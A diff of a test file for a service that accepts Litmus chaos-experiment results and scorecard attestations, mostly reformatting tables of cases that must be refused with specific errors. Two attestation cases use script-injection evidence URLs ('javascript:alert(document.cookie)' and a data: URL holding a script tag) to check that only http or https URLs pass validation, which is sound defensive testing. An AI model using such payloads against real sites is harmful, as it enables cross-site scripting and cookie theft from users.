+      "a Litmus ChaosResult needs the target component: add ?target=COMPONENT_ID",
+    ],
     ["a Litmus ChaosResult for an unknown component", litmus(), "target=payments", 'no component with id "payments"'],
-    ["a Litmus ChaosResult still running", litmus({ phase: "Running", verdict: "Awaited" }), "target=api", "has not finished (phase Running, verdict Awaited)"],
-    ["a Litmus ChaosResult completed but still Awaited", litmus({ phase: "Completed", verdict: "Awaited" }), "target=api", "has not finished (phase Completed, verdict Awaited)"],
-    ["a Litmus ChaosResult with an unknown verdict", litmus({ phase: "Completed", verdict: "Passed" }), "target=api", "status.experimentStatus.verdict: expected verdict Pass, Fail, Stopped, Awaited or Error"],
-    ["a Litmus ChaosResult with no end time", { ...litmus(), metadata: { name: "api-pod-delete-pod-delete", creationTimestamp: "2026-11-26T13:58:04Z" } }, "target=api", "has no end time"],
+    [
+      "a Litmus ChaosResult still running",
+      litmus({ phase: "Running", verdict: "Awaited" }),
+      "target=api",
+      "has not finished (phase Running, verdict Awaited)",
+    ],
+    [
+      "a Litmus ChaosResult completed but still Awaited",
+      litmus({ phase: "Completed", verdict: "Awaited" }),
+      "target=api",
+      "has not finished (phase Completed, verdict Awaited)",
+    ],
+    [
+      "a Litmus ChaosResult with an unknown verdict",
+      litmus({ phase: "Completed", verdict: "Passed" }),
+      "target=api",
+      "status.experimentStatus.verdict: expected verdict Pass, Fail, Stopped, Awaited or Error",
+    ],
+    [
+      "a Litmus ChaosResult with no end time",
+      { ...litmus(), metadata: { name: "api-pod-delete-pod-delete", creationTimestamp: "2026-11-26T13:58:04Z" } },
+      "target=api",
+      "has no end time",
+    ],
   ])("%s", async (_name, body, query, error) => {
     await expectRefused(() => send("chaos", JSON.stringify(body), { query }), 422, error);
   });
@@ -413,13 +745,41 @@ describe("chaos experiments refused", () => {
 
 describe("attestations refused", () => {
   it.each([
-    ["a check the scorecard does not have", { ...validAttestation(), check: "pen-test" }, 'no attestation check "pen-test" in the scorecard: expected one of backup-restore'],
-    ["a check that is not an attestation", { ...validAttestation(), check: "gateway-tests" }, 'no attestation check "gateway-tests" in the scorecard'],
-    ["the answer \"maybe\"", { ...validAttestation(), answer: "maybe" }, 'invalid attestation: answer: expected "yes" or "no"'],
-    ["a javascript: evidence URL", { ...validAttestation(), evidenceUrl: "javascript:alert(document.cookie)" }, "invalid attestation: evidenceUrl: expected an http or https URL"],
-    ["a data: evidence URL", { ...validAttestation(), evidenceUrl: "data:text/html,<script>alert(1)</script>" }, "evidenceUrl: expected an http or https URL"],
-    ["an expiry in the past", { ...validAttestation(), expiresAt: minutesFromNow(-1) }, "invalid attestation: expiresAt: expected a time after"],
-    ["an expiry that is not a time", { ...validAttestation(), expiresAt: "next quarter" }, "expiresAt: expected an ISO 8601 time with a zone"],
+    [
+      "a check the scorecard does not have",
+      { ...validAttestation(), check: "pen-test" },
+      'no attestation check "pen-test" in the scorecard: expected one of backup-restore',
+    ],
+    [
+      "a check that is not an attestation",
+      { ...validAttestation(), check: "gateway-tests" },
+      'no attestation check "gateway-tests" in the scorecard',
+    ],
+    [
+      'the answer "maybe"',
+      { ...validAttestation(), answer: "maybe" },
+      'invalid attestation: answer: expected "yes" or "no"',
+    ],
+    [
+      "a javascript: evidence URL",
+      { ...validAttestation(), evidenceUrl: "javascript:alert(document.cookie)" },
+      "invalid attestation: evidenceUrl: expected an http or https URL",
+    ],
+    [
+      "a data: evidence URL",
+      { ...validAttestation(), evidenceUrl: "data:text/html,<script>alert(1)</script>" },
+      "evidenceUrl: expected an http or https URL",
+    ],
+    [
+      "an expiry in the past",
+      { ...validAttestation(), expiresAt: minutesFromNow(-1) },
+      "invalid attestation: expiresAt: expected a time after",
+    ],
+    [
+      "an expiry that is not a time",
+      { ...validAttestation(), expiresAt: "next quarter" },
+      "expiresAt: expected an ISO 8601 time with a zone",
+    ],
     ["no fields at all", {}, "invalid attestation: check: expected the check's id"],
     ["JSON null", null, "expected an attestation object, got null"],
   ])("%s", async (_name, body, error) => {
@@ -427,6 +787,10 @@ describe("attestations refused", () => {
   });
 
   it("refuses a body that is not JSON", async () => {
-    await expectRefused(() => send("attestations", "check=backup-restore&answer=yes"), 400, "the body is not valid JSON");
+    await expectRefused(
+      () => send("attestations", "check=backup-restore&answer=yes"),
+      400,
+      "the body is not valid JSON",
+    );
   });
 });
